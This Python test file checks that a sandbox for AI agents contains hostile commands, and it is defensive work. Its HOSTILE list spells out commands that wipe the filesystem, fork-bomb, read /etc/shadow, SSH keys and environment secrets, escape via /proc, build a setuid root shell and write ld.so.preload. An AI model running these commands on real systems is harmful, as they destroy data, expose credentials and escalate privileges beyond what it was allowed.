"""Hostile commands an agent might run: each must stay inside the sandbox and leave the host unchanged."""

from __future__ import annotations

import hashlib
import os
import secrets
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from toolemu.core.types import EnvironmentSpec, SandboxProfile, SeedFile
from toolemu.toolkits.sandbox import Sandbox, SandboxConfig, oas_image

pytestmark = pytest.mark.sandbox

SECRET = "host-secret-" + secrets.token_hex(8)
ENV = EnvironmentSpec(files=(SeedFile(path="/workspace/todo.txt", content="water plants\n"),))
PROFILES: dict[SandboxProfile, str] = {"default": "1000", "oas": "0"}
"""Every hostile command runs under each sandbox profile; the value is `id -u` inside."""

HOSTILE: list[tuple[str, str]] = [
    ("rm-rf-root", "rm -rf --no-preserve-root / 2>&1 | tail -3"),
    ("rm-rf-star", "rm -rf /* 2>&1 | tail -3"),
    ("rm-usr-binary", "rm -f /usr/bin/ls /bin/sh"),
    ("write-usr", "echo evil > /usr/bin/evil; touch /usr/lib/evil.so"),
    ("write-opt", "mkdir -p /opt/evil && touch /opt/evil/x"),
    ("write-root-home", "mkdir -p /root && echo x > /root/evil"),
    ("overwrite-host-sentinel", "echo pwned > {sentinel}; echo pwned > {sentinel_dir}/new.txt"),
    ("read-host-sentinel", "cat {sentinel}; ls {sentinel_dir}"),
    (
        "find-sentinel",
        "find / -name {sentinel_name} 2>/dev/null; grep -rsl host-secret- / 2>/dev/null | head",
    ),
    ("read-shadow", "cat /etc/shadow /etc/gshadow"),
    ("read-ssh-keys", "ls -la /root/.ssh; cat /root/.ssh/id_* /home/*/.ssh/id_*"),
    ("env-leak", "env; cat /proc/1/environ /proc/self/environ | tr '\\0' '\\n'"),
    ("proc-root-escape", "ls /proc/1/root/; cat /proc/1/root{sentinel}; ls /proc/*/cwd/"),
    ("proc-mem", "head -c 64 /proc/1/mem; cat /proc/kcore | head -c 10"),
    ("net-devtcp", "echo hi > /dev/tcp/1.1.1.1/80"),
    ("net-python", "python3 -c \"import socket; socket.create_connection(('8.8.8.8', 53), timeout=1)\""),
    ("net-dns", "getent hosts example.com; getent hosts pypi.org"),
    ("net-link-up", "ip link set lo up; ip addr; cat /proc/net/route"),
    ("fork-bomb", ":(){ :|:& };:"),
    ("fork-bomb-python", "python3 -c 'import os\nwhile True: os.fork()'"),
    ("memory-hog-python", "python3 -c 'b = bytearray(8 * 1024 ** 3)'"),
    ("memory-hog-shell", "head -c 3000000000 /dev/zero | tail -c 1"),
    ("infinite-builtin-loop", "while :; do :; done"),
    ("infinite-process-loop", "python3 -c 'while True: pass'"),
    ("sleep-forever", "sleep infinity"),
    ("output-flood", "yes"),
    ("binary-flood", "cat /dev/urandom"),
    ("kill-everything", "kill -9 -1"),
    ("kill-init", "kill -9 1; kill -9 $$"),
    ("mount-tmpfs", "mount -t tmpfs none /mnt"),
    ("umount-usr", "umount -l /usr; umount /proc"),
    ("remount-rw", "mount -o remount,rw /usr && touch /usr/evil"),
    ("nested-userns-mount", "unshare -rm sh -c 'mount -t tmpfs x /usr && touch /usr/evil && echo inner-ok'"),
    ("chroot", "chroot / id; chroot /tmp /bin/sh -c id"),
    (
        "setuid-shell",
        "cp /bin/bash /tmp/rootsh && chmod u+s /tmp/rootsh && /tmp/rootsh -p -c 'id -u; touch /usr/x'",
    ),
    ("sudo-su", "sudo id; su root -c id; su - -c 'touch /usr/x'"),
    ("python-setuid", "python3 -c 'import os; os.setuid(0)'"),
    ("chown-root", "chown root:root /workspace/todo.txt; chown 0 /etc/hosts"),
    ("nsenter", "nsenter -t 1 -a id"),
    ("sysrq", "echo b > /proc/sysrq-trigger"),
    ("sysctl", "echo 1 > /proc/sys/kernel/panic; sysctl -w kernel.hostname=evil"),
    ("hostname", "hostname evil; cat /proc/sys/kernel/hostname"),
    ("date-set", "date -s '2001-01-01'"),
    ("mknod-disk", "mknod /tmp/sda b 8 0; dd if=/dev/sda of=/dev/null count=1"),
    ("sys-cgroup", "ls /sys; echo 1 > /sys/fs/cgroup/cgroup.procs"),
    ("docker-socket", "ls -la /var/run/docker.sock /run/docker.sock"),
    ("reboot", "reboot -f; shutdown now; systemctl poweroff"),
    ("big-file", "head -c 100000000 /dev/zero > /workspace/big; ls -la /workspace/big"),
    ("sparse-file", "truncate -s 100G /workspace/sparse"),
    (
        "symlink-host-root",
        "ln -s / /workspace/hostroot; ln -s {sentinel} /workspace/leak; ln -s {sentinel_dir} /tmp/d",
    ),
    ("exit-shell", "exit 0"),
    ("exec-redirect", "exec > /dev/null 2>&1"),
    ("trap-and-sleep", "trap '' INT TERM HUP; sleep 100"),
    ("daemonize", "setsid nohup sleep 1000 > /dev/null 2>&1 < /dev/null & disown"),
    ("ptrace-attach", "python3 -c 'import ctypes; print(ctypes.CDLL(None).ptrace(16, 1, 0, 0))'"),
    ("ld-preload-etc", "echo /tmp/evil.so > /etc/ld.so.preload; ls /"),
    ("write-oas-libs", "touch /opt/toolemu/oas/site/evil.py; echo x > /opt/toolemu/oas/bin/sudo; rm -rf /opt/toolemu"),
    ("pip-install", "pip install --index-url http://1.1.1.1/simple evil; python3 -m pip install evil"),
    ("sudo-shell", "sudo -s touch /usr/evil; sudo -i id; sudo chown 0 /etc/hosts"),
    (
        "apt-install-and-write",
        "apt-get install -y openssh-server php-cli cron; echo x > /usr/bin/php; touch /usr/sbin/evil; "
        "cat /opt/toolemu/oas/apt/*/root/etc/ssh/ssh_host_* /etc/ssh/ssh_host_*_key 2>/dev/null | grep -c PRIVATE",
    ),
    ("pip-install-offline", "pip install flask bcrypt; pip install --index-url http://1.1.1.1/simple numpy==1.0"),
    ("kill-interpreter-host", "python3 -c 'import os; print(os.getppid())'; kill -9 -1; ps -e | wc -l"),
]


class HostState(NamedTuple):
    sentinel: str
    sentinel_dir: list[str]
    etc_hosts: str
    etc_passwd: str
    var: list[str]
    usr_bin: int
    hostname: str


def _hash(path: str) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def _host_state(sentinel: Path) -> HostState:
    return HostState(
        sentinel=sentinel.read_text(),
        sentinel_dir=sorted(os.listdir(sentinel.parent)),
        etc_hosts=_hash("/etc/hosts"),
        etc_passwd=_hash("/etc/passwd"),
        var=sorted(os.listdir("/var")),
        usr_bin=len(os.listdir("/usr/bin")),
        hostname=socket.gethostname(),
    )


@pytest.fixture(scope="module")
def sentinel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("host") / "sentinel.txt"
    path.write_text(SECRET)
    return path


@pytest.fixture(scope="module", params=list(PROFILES))
def profile(request: pytest.FixtureRequest) -> SandboxProfile:
    return request.param  # type: ignore[no-any-return]


@pytest.fixture(scope="module")
def sandbox(profile: SandboxProfile) -> Iterator[Sandbox]:
    cfg = SandboxConfig(
        command_timeout_s=1.5, max_processes=48, memory_mb=512, max_file_mb=16, max_output_chars=4000
    )
    with Sandbox(cfg) as sb:
        yield sb


@pytest.mark.parametrize("command", [c for _, c in HOSTILE], ids=[i for i, _ in HOSTILE])
def test_hostile_command_is_contained(
    command: str, profile: SandboxProfile, sandbox: Sandbox, sentinel: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TOOLEMU_HOST_SECRET", SECRET)
    env = ENV.model_copy(update={"sandbox_profile": profile})
    before = _host_state(sentinel)
    sandbox.reset(env)
    cmd = command
    for key, value in {
        "sentinel": sentinel,
        "sentinel_dir": sentinel.parent,
        "sentinel_name": sentinel.name,
    }.items():
        cmd = cmd.replace("{" + key + "}", str(value))
    got = sandbox.run_shell(cmd)
    assert SECRET not in got.output
    assert "alive" in sandbox.run_shell("echo alive").output
    state = sandbox.final_state()
    assert _host_state(sentinel) == before
    assert (
        not Path("/opt/evil").exists() and not Path("/usr/evil").exists() and not Path("/root/evil").exists()
    )
    if profile == "oas":
        libs = oas_image.built_env_dir()
        assert not (libs / "site" / "evil.py").exists() and "exec" in (libs / "bin" / "sudo").read_text()
    assert all(SECRET not in (f.content or "") for f in state.files)
    assert all(f.size <= 16 * 1024 * 1024 for f in state.files)
    assert [c.command for c in state.commands] == [cmd, "echo alive"]
    sandbox.reset(env)
    assert sandbox.run_shell("id -u; cat /workspace/todo.txt").output == f"{PROFILES[profile]}\nwater plants\n"


def test_hostile_suite_is_large_enough() -> None:
    assert len(HOSTILE) >= 40 and len({i for i, _ in HOSTILE}) == len(HOSTILE)


def test_hostile_close_leaves_nothing_behind(tmp_path: Path) -> None:
    sb = Sandbox(SandboxConfig(command_timeout_s=1.5))
    sb.reset(ENV)
    sb.run_shell("setsid nohup sleep 1000 >/dev/null 2>&1 </dev/null & :(){ :|:& };:")
    uid = (sb.root / "workspace").stat().st_uid
    sb.close()
    assert not sb.host_dir.exists()
    if os.geteuid() == 0:
        left = [p for p in os.listdir("/proc") if p.isdigit() and _owner(p) == uid]
        assert left == []


def _owner(pid: str) -> int | None:
    try:
        return os.stat(f"/proc/{pid}").st_uid
    except FileNotFoundError:
        return None
